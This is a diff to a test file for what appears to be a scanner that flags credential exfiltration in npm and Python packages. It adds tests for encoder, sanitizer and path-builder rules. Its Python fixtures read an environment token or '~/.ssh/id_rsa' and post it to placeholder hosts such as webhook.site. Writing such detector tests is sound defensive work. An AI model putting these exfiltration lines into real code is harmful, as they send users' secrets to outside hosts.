@@ -3,9 +3,11 @@
 // no front-end reads is a load error naming file and line.
 import { describe, expect, it } from "vitest";
 import { analyzeNpmPackage } from "../../src/analyzers/js/index.js";
+import { analyzePythonPackage } from "../../src/analyzers/python/index.js";
 import { irrelevantFiles } from "../../src/analyzers/js/relevance.js";
 import { loadSignatures } from "../../src/rules/signatures.js";
 import { makePackage } from "../analyzers/js/helpers.js";
+import { dedent } from "../analyzers/python/helpers.js";
 import { base, extraDir, jsFindings, loadError, pyFindings, sinksYaml, sourcesYaml } from "./models-helpers.js";
 
 const critical = (findings: string[]) => findings.some((f) => f.startsWith("credential-exfiltration critical"));
@@ -130,6 +132,47 @@ describe("sources.yaml credentialConsumers.js", () => {
   });
 });
 
+describe("transforms.yaml (Python)", () => {
+  const transforms = (yaml: string) => loadSignatures([extraDir({ "transforms.yaml": yaml })]);
+  const token = 'os.environ["ZORBLAT_TOKEN"]';
+  /** The notes of each flow's steps. */
+  async function flowSteps(code: string, signatures: typeof base): Promise<string[][]> {
+    const files = new Map([
+      ["setup.py", Buffer.from('from setuptools import setup\nsetup(name="pkg", version="1.0.0", packages=["pkg"])\n')],
+      ["pkg/__init__.py", Buffer.from(dedent(code))],
+    ]);
+    const facts = await analyzePythonPackage({ input: "test", files, bytes: 0, errors: [] }, signatures);
+    return facts.flows.map((f) => f.steps.map((s) => s.note));
+  }
+
+  it("encoders: a new encoding call names its step in the flow", async () => {
+    const py = `import os, requests, zorblat\nrequests.post("https://c.example.invalid/", data=zorblat.pack(${token}))\n`;
+    const sigs = transforms("encoders: { python: { zorblat.pack: { note: zorblat-packed } } }\n");
+    expect(await flowSteps(py, base)).toEqual([["reads environment variable ZORBLAT_TOKEN", "sent by requests.post()"]]);
+    expect(await flowSteps(py, sigs)).toEqual([["reads environment variable ZORBLAT_TOKEN", "zorblat-packed", "sent by requests.post()"]]);
+  });
+
+  it("encoders fold: a constant input is encoded (decoded back, it is a destination)", async () => {
+    const py = 'import base64, requests, zorblat\nrequests.post(base64.b64decode(zorblat.pack("https://webhook.site/zorblat")).decode(), data="hello")\n';
+    expect(await pyFindings(py, base)).toEqual([]);
+    expect(await pyFindings(py, transforms("encoders: { python: { zorblat.pack: { note: zorblat-packed } } }\n"))).toEqual([]);
+    expect(await pyFindings(py, transforms("encoders: { python: { zorblat.pack: { note: zorblat-packed, fold: base64 } } }\n"))).toEqual(["exfil-service-destination medium 2"]);
+  });
+
+  it("sanitizers calls and prefixes: the result of a new digest call is not the secret", async () => {
+    const py = `import os, requests, zorblat\nrequests.post("https://c.example.invalid/", data=zorblat.digest(${token}))\n`;
+    expect(await pyFindings(py, base)).toEqual(["credential-exfiltration critical 2"]);
+    expect(await pyFindings(py, transforms("sanitizers: { python: { calls: [zorblat.digest] } }\n"))).toEqual([]);
+    expect(await pyFindings(py, transforms("sanitizers: { python: { prefixes: [zorblat.] } }\n"))).toEqual([]);
+  });
+
+  it("pathBuilders: a credential path handed to a new path-building call is not a read", async () => {
+    const py = 'import os, requests, zorblat\nrequests.post("https://c.example.invalid/", data=zorblat.mkpath(os.path.expanduser("~/.ssh/id_rsa")))\n';
+    expect(await pyFindings(py, base)).toEqual(["credential-exfiltration critical 2"]);
+    expect(await pyFindings(py, transforms("pathBuilders: { python: [zorblat.mkpath] }\n"))).toEqual([]);
+  });
+});
+
 describe("an entry no front-end reads", () => {
   it("configMembers or authOptions for Python, an unknown runners.js field: errors at their line", () => {
     expect(loadError({ "sinks.yaml": "js: { modules: {}, globals: {} }\npython:\n  modules: {}\n  builtins: {}\n  configMembers: [create]\nshellPrograms: {}\n" }).message).toMatch(/sinks\.yaml:3: python: Unrecognized key: "configMembers"/);
@@ -143,5 +186,11 @@ describe("an entry no front-end reads", () => {
     expect(error("credentialConsumers:\n  js:\n    database: [pg]\n")).toMatch(/sources\.yaml:6: credentialConsumers\.js: Unrecognized key: "database"/);
     expect(error("homeVariables:\n  - home\n")).toMatch(/sources\.yaml:5: homeVariables\.0: an environment variable name in upper case/);
     expect(error("homeFolders:\n  js:\n    ZSSH: /etc/ssh\n")).toMatch(/sources\.yaml:6: homeFolders\.js\.ZSSH: a folder under the home directory/);
+  });
+
+  it("transforms for JS, an unknown encoding or a prefix without its dot: errors at their line", () => {
+    expect(loadError({ "transforms.yaml": "encoders:\n  js:\n    btoa: { note: base64-encoded }\n" }).message).toMatch(/transforms\.yaml:2: encoders: Unrecognized key: "js"/);
+    expect(loadError({ "transforms.yaml": "encoders:\n  python:\n    zorblat.pack: { note: packed, fold: rot13 }\n" }).message).toMatch(/transforms\.yaml:3: encoders\.python\.zorblat\.pack\.fold/);
+    expect(loadError({ "transforms.yaml": "sanitizers:\n  python:\n    prefixes: [hashlib]\n" }).message).toMatch(/transforms\.yaml:3: sanitizers\.python\.prefixes\.0: a module prefix ending in a dot/);
   });
 });
